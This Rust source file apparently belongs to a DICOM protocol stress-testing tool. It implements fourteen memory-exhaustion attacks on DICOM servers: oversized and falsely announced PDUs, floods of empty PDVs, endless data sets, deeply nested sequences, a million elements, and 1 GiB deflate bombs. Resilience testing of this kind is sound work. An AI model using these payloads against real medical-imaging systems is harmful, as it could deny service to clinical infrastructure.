//! Peers that want memory.

use super::deflate;
use super::line::Line;
use super::observe::{Attack, Needs};
use super::pace::Pace;
use super::target::Target;
use super::wire::{self, Context, DEFLATED_FIND, DEFLATED_STORE, FIND, LAST, STORE, element, pdv};

/// What is sent where there is no end, in bytes.
const MUCH: usize = 256 << 20;

/// All of them.
pub const MEMORY: [Attack; 14] = [
    Attack::new("P-DATA-TFs as long as may be of empty PDVs, 64 MiB", empty_pdvs),
    Attack::new("P-DATA-TF of 16 MiB, of empty PDVs", |t, p| empty_pdvs_of(t, p, 16 << 20)),
    Attack::new("C-STORE of 1 MiB in PDVs of one byte", one_byte_pdvs),
    Attack::new("P-DATA-TF of twice what may be", |t, p| one_pdu(t, p, 2)),
    Attack::new("P-DATA-TF of 1,000 times what may be", |t, p| one_pdu(t, p, 1000)),
    Attack::new("P-DATA-TF of 4 GiB announced, 256 MiB of it sent", four_gibibytes),
    Attack::new("command set of 64 MiB", long_command),
    Attack::new("C-STORE whose data set does not end, 256 MiB", endless_store),
    Attack::new("C-STORE, sequences nested 100,000 deep", |t, p| store(t, p, &nested(100_000))),
    Attack::new("C-STORE, a million elements", |t, p| store(t, p, &million())),
    Attack::new("C-STORE, deflated, of 1 GiB of zeros", bomb_stored),
    Attack::new("C-FIND, sequences nested 100,000 deep", |t, p| ask(t, p, &nested(100_000)))
        .needs(Needs::Archive),
    Attack::new("C-FIND, a million elements", |t, p| ask(t, p, &million())).needs(Needs::Archive),
    Attack::new("C-FIND, deflated, of 1 GiB of zeros", bomb_asked).needs(Needs::Archive),
];

/// After what matters has come the answer is awaited, then the association is aborted.
fn finish(mut line: Line) -> Result<Line, String> {
    if line.status().is_some() {
        line.send(&wire::ending(7));
    }
    Ok(line)
}

fn empty_pdvs(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.4.1"));
    let longest = if line.longest == 0 { 1 << 20 } else { line.longest };
    let pdu = wire::pdu(4, &pdv(STORE.0, 0, &[]).repeat(longest / 6));
    for _ in 0..(64 << 20) / pdu.len() {
        if !line.send(&pdu) {
            break;
        }
    }
    line.send(&wire::ending(7));
    Ok(line)
}

fn empty_pdvs_of(target: &Target, pace: &Pace, length: usize) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.4.2"));
    line.send(&wire::pdu(4, &pdv(STORE.0, 0, &[]).repeat(length / 6)));
    line.send(&wire::ending(7));
    Ok(line)
}

fn one_byte_pdvs(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.4.3"));
    let data_set = wire::instance("1.2.4.3", 0, 1 << 20);
    for bytes in data_set.chunks(2000) {
        let pdvs: Vec<u8> = bytes.iter().flat_map(|byte| pdv(STORE.0, 0, &[*byte])).collect();
        if !line.send(&wire::pdu(4, &pdvs)) {
            break;
        }
    }
    line.send(&wire::p_data(STORE.0, LAST, &[]));
    finish(line)
}

/// One PDU of an instance, of so many times the length that the SCP announced.
fn one_pdu(target: &Target, pace: &Pace, times: usize) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.4.4"));
    let length = line.longest.max(16_384) * times;
    line.send(&wire::p_data(STORE.0, LAST, &wire::instance("1.2.4.4", 0, length - 400)));
    finish(line)
}

fn four_gibibytes(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.4.5"));
    line.send(&[4, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFB, STORE.0, 0]);
    line.send(&wire::instance("1.2.4.5", 0, MUCH));
    line.send(&wire::ending(7));
    line.half_close();
    Ok(line)
}

fn long_command(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    let fragment = wire::p_data(STORE.0, wire::COMMAND, &element(0x0000_5110, &[b'x'; 16_000]));
    for _ in 0..(64 << 20) / fragment.len() {
        if !line.send(&fragment) {
            break;
        }
    }
    line.send(&wire::ending(7));
    Ok(line)
}

fn endless_store(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.4.6"));
    let mut head = wire::instance("1.2.4.6", 0, 0);
    // of undefined length: pixel data that never end
    head.truncate(head.len() - 8);
    head.extend([0xE0, 0x7F, 0x10, 0, 0xFE, 0xFF, 0xFF, 0xFF]);
    line.send(&wire::p_data(STORE.0, 0, &head));
    let fragment = wire::p_data(STORE.0, 0, &[7; 16_000]);
    for _ in 0..MUCH / fragment.len() {
        if !line.send(&fragment) {
            break;
        }
    }
    line.send(&wire::ending(7));
    Ok(line)
}

fn store(target: &Target, pace: &Pace, elements: &[u8]) -> Result<Line, String> {
    let data_set = [&wire::instance("1.2.4.7", 0, 0), elements].concat();
    send(target, pace, STORE, &wire::c_store_rq(STORE, 1, "1.2.4.7"), &data_set)
}

pub(super) fn ask(target: &Target, pace: &Pace, elements: &[u8]) -> Result<Line, String> {
    send(target, pace, FIND, &wire::query_rq(FIND, 1), &[&wire::study_identifier(), elements].concat())
}

fn bomb_stored(target: &Target, pace: &Pace) -> Result<Line, String> {
    let uid = "1.2.4.8";
    let head = [explicit(0x0008_0016, b"UI", DEFLATED_STORE.1), explicit(0x0008_0018, b"UI", uid), zeros()];
    let bomb = deflate::and_zeros(&head.concat(), 1 << 30);
    send(target, pace, DEFLATED_STORE, &wire::c_store_rq(DEFLATED_STORE, 1, uid), &bomb)
}

fn bomb_asked(target: &Target, pace: &Pace) -> Result<Line, String> {
    let bomb = deflate::and_zeros(&[explicit(0x0008_0052, b"CS", "STUDY "), zeros()].concat(), 1 << 30);
    send(target, pace, DEFLATED_FIND, &wire::query_rq(DEFLATED_FIND, 1), &bomb)
}

fn send(
    target: &Target,
    pace: &Pace,
    context: Context,
    request: &[u8],
    bytes: &[u8],
) -> Result<Line, String> {
    let mut line = target.associate(&[context], pace)?;
    line.send(request);
    line.send(&wire::data_set(context.0, bytes, 16_000));
    finish(line)
}

/// Sequences within one another, of undefined length, none of which ends; the tags are in order.
pub fn nested(depth: usize) -> Vec<u8> {
    let sequence = [0x10, 0, 0x10, 0x10, 0xFF, 0xFF, 0xFF, 0xFF];
    let item = [0xFE, 0xFF, 0x00, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF];
    [sequence, item].concat().repeat(depth)
}

/// A million empty elements of private groups, in order.
pub fn million() -> Vec<u8> {
    const OF_A_GROUP: u32 = 0xF000;
    let tag = |number: u32| 0x7FE1_0010 + (number / OF_A_GROUP) * 0x2_0000 + number % OF_A_GROUP;
    (0..1_000_000).flat_map(|number| element(tag(number), b"")).collect()
}

fn explicit(tag: u32, vr: &[u8; 2], value: &str) -> Vec<u8> {
    let mut bytes = element(tag, value.as_bytes());
    let [low, high, ..] = [bytes[4], bytes[5]];
    bytes[4..8].copy_from_slice(&[vr[0], vr[1], low, high]);
    bytes
}

/// The header of an element of a gibibyte.
fn zeros() -> Vec<u8> {
    let mut bytes = vec![0x20, 0, 0x99, 0x99, b'O', b'B', 0, 0];
    bytes.extend((1_u32 << 30).to_le_bytes());
    bytes
}
